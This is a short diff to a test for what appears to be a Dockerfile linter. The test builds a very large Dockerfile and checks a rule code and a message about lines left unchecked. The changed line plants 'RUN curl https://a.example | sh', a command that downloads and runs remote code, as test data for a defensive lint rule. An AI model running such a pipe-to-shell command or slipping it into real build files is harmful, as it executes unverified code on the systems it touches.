@@ -45,11 +45,11 @@ describe('a Dockerfile', () => {
     const line = 'RUN echo "a line like many others" && true\n';
     write(
       'huge/Dockerfile',
-      `FROM debian:13\nRUN sudo true\n${line.repeat(5_000_000 / line.length)}`,
+      `FROM debian:13\nRUN curl https://a.example | sh\n${line.repeat(5_000_000 / line.length)}`,
     );
     const { status, output } = portside('lint', 'huge/Dockerfile');
     expect(status).toBe(1);
-    expect(output).toContain('DL3004');
+    expect(output).toContain('PS0023');
     expect(output).toContain('Line 5001 and the lines after it were not checked');
   });
 });
